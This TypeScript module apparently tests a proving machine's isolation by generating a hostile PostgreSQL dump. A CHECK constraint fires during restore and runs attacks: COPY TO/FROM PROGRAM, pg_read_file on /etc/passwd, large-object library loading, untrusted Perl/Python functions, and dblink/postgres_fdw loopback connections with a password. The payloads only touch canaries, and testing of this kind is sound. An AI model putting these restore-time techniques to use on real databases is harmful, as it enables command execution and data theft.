/**
 * Attacks on the machine that proves, as SQL that runs when a dump is restored: the check of a table calls it while rows are
 * loaded, with the rights of the restoring role. What an attack reads, it puts into public.loot; why it failed, into
 * public.failed.
 */

export interface Target {
  /** A file on the runner that every account can read, and what is in it. */
  readonly canary: string;
  readonly secret: string;
  /** A folder of the runner that every account can write. */
  readonly folder: string;
  /** A server on loopback that should get no connection. */
  readonly port: number;
  /** A database on loopback, with the right password. */
  readonly database: { readonly port: number; readonly user: string; readonly password: string };
}

export interface Attack {
  readonly name: string;
  /** Statements of PL/pgSQL. */
  readonly body: (target: Target) => string;
  /** What is in public.loot when it worked. */
  readonly loot?: (target: Target) => string;
  /** The file in the folder that is there when it worked. */
  readonly file?: string;
  /** The extension that it needs, and that not every machine has. */
  readonly needs?: string;
  /** It fails on any server. */
  readonly neverWorks?: boolean;
}

const libc = `/lib/${process.arch === 'arm64' ? 'aarch64' : 'x86_64'}-linux-gnu/libc.so.6`;
const secretOf = ({ secret }: Target): string => secret;

export const attacks: readonly Attack[] = [
  {
    name: 'COPY TO PROGRAM',
    body: ({ folder }) => `COPY (SELECT 1) TO PROGRAM 'cat > ${folder}/program';`,
    file: 'program',
  },
  {
    name: 'COPY FROM PROGRAM',
    body: ({ canary }) => `COPY public.loot (what) FROM PROGRAM 'cat ${canary}';`,
    loot: secretOf,
  },
  { name: 'COPY FROM a file', body: ({ canary }) => `COPY public.loot (what) FROM '${canary}';`, loot: secretOf },
  { name: 'COPY TO a file', body: ({ folder }) => `COPY (SELECT 1) TO '${folder}/copied';`, file: 'copied' },
  {
    name: 'reading accounts',
    body: () => `COPY public.loot (what) FROM '/etc/passwd' (DELIMITER '|');`,
    loot: () => 'root:x:0:0',
  },
  {
    name: 'pg_read_file',
    body: ({ canary }) => `INSERT INTO public.loot (what) SELECT pg_read_file('${canary}');`,
    loot: secretOf,
  },
  {
    name: 'pg_read_binary_file',
    body: ({ canary }) =>
      `INSERT INTO public.loot (what) SELECT convert_from(pg_read_binary_file('${canary}'), 'UTF8');`,
    loot: secretOf,
  },
  {
    name: 'pg_ls_dir',
    body: ({ folder }) => `INSERT INTO public.loot (what) SELECT 'listed ' || pg_ls_dir('${folder}');`,
    loot: () => 'listed canary',
  },
  {
    name: 'reading /proc',
    body: () => `INSERT INTO public.loot (what) SELECT pg_read_file('/proc/version');`,
    loot: () => 'Linux version',
  },
  {
    name: 'lo_import',
    body: ({ canary }) =>
      `DECLARE number oid := lo_import('${canary}'); BEGIN INSERT INTO public.loot (what) SELECT convert_from(lo_get(number), 'UTF8'); END;`,
    loot: secretOf,
  },
  {
    name: 'lo_export',
    body: ({ folder }) =>
      `DECLARE number oid := lo_from_bytea(0, 'x'); BEGIN PERFORM lo_export(number, '${folder}/exported'); END;`,
    file: 'exported',
  },
  {
    name: 'a library that the dump brings',
    body: () => `DECLARE
module text := (SELECT setting FROM pg_config WHERE name = 'PKGLIBDIR') || '/hstore.so';
number oid := lo_from_bytea(0, pg_read_binary_file(module));
brought text := current_setting('data_directory') || '/brought.so';
BEGIN
PERFORM lo_export(number, brought);
EXECUTE 'LOAD ' || quote_literal(brought);
INSERT INTO public.loot (what) VALUES ('loaded what it brought');
END;`,
    loot: () => 'loaded what it brought',
  },
  {
    name: 'a function of libc',
    body: ({ folder }) => `CREATE FUNCTION public.run(cstring) RETURNS int LANGUAGE c STRICT AS '${libc}', 'system';
PERFORM public.run('touch ${folder}/libc');`,
    file: 'libc',
    neverWorks: true,
  },
  {
    name: 'plperlu',
    body: ({ folder }) => `EXECUTE 'CREATE EXTENSION plperlu';
EXECUTE $e$CREATE FUNCTION public.perl() RETURNS int LANGUAGE plperlu AS $p$ open(my $f, '>', '${folder}/perl') or die "$!"; return 1 $p$$e$;
PERFORM public.perl();`,
    file: 'perl',
    needs: 'plperlu',
  },
  {
    name: 'plpython3u',
    body: ({ folder }) => `EXECUTE 'CREATE EXTENSION plpython3u';
EXECUTE $e$CREATE FUNCTION public.python() RETURNS int LANGUAGE plpython3u AS $p$
import os, socket
if os.path.exists('/etc/hostname'): open('${folder}/python', 'w').close()
return 1
$p$$e$;
PERFORM public.python();`,
    file: 'python',
    needs: 'plpython3u',
  },
  {
    name: 'dblink to the runner',
    body: ({ port }) =>
      `PERFORM public.dblink_connect_u('probe', 'host=127.0.0.1 port=${port} connect_timeout=2 sslmode=disable gssencmode=disable');`,
  },
  {
    name: 'dblink to a database of the runner, with its password',
    body: ({ database: { port, user, password } }) =>
      `INSERT INTO public.loot (what) SELECT x FROM public.dblink('host=127.0.0.1 port=${port} user=${user} password=${password} dbname=postgres connect_timeout=5', 'SELECT ''reached '' || current_user') AS d(x text);`,
    loot: ({ database }) => `reached ${database.user}`,
  },
  {
    name: 'postgres_fdw to a database of the runner, with its password',
    body: ({
      database: { port, user, password },
    }) => `CREATE SERVER runner FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '${port}', dbname 'postgres', connect_timeout '5');
CREATE USER MAPPING FOR PUBLIC SERVER runner OPTIONS (user '${user}', password '${password}');
CREATE FOREIGN TABLE public.remote (rolname name) SERVER runner OPTIONS (schema_name 'pg_catalog', table_name 'pg_roles');
INSERT INTO public.loot (what) SELECT 'mapped ' || rolname FROM public.remote WHERE rolname = '${user}';`,
    loot: ({ database }) => `mapped ${database.user}`,
  },
  {
    name: 'an event trigger that fires afterwards',
    body: ({
      folder,
    }) => `EXECUTE $e$CREATE FUNCTION public.on_change() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN
COPY (SELECT 1) TO PROGRAM 'cat > ${folder}/event'; EXCEPTION WHEN OTHERS THEN NULL; END $f$$e$;
EXECUTE 'CREATE EVENT TRIGGER on_change ON ddl_command_end EXECUTE FUNCTION public.on_change()';
EXECUTE 'CREATE TABLE public.changed ()';`,
    file: 'event',
  },
];

/** A plain dump that attacks when it is restored. @param before statements before the rows are loaded */
export function hostileDump(chosen: readonly Attack[], target: Target): string {
  const functions = chosen.map(
    ({ name, body }, at) => `CREATE FUNCTION public.attack${at}() RETURNS integer
    LANGUAGE plpgsql
    AS $attack$
BEGIN
PERFORM set_config('attack.name', '${name}', false);
${body(target)}
RETURN 1;
EXCEPTION WHEN OTHERS THEN
INSERT INTO public.failed VALUES ('${name}', SQLERRM);
RETURN 1;
END $attack$;
`,
  );
  const calls = chosen.map((_, at) => `(public.attack${at}() = 1)`).join(' AND ');
  return plainDump(`CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public;

CREATE EXTENSION IF NOT EXISTS postgres_fdw WITH SCHEMA public;

CREATE TABLE public.loot (
    what text,
    name text DEFAULT current_setting('attack.name')
);

CREATE TABLE public.failed (
    name text,
    why text
);

${functions.join('\n')}
CREATE TABLE public.bait (
    n integer,
    CONSTRAINT bait_check CHECK (${calls})
);

COPY public.bait (n) FROM stdin;
1
\\.
`);
}

export function plainDump(content: string): string {
  return `--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

${content}

--
-- PostgreSQL database dump complete
--

`;
}
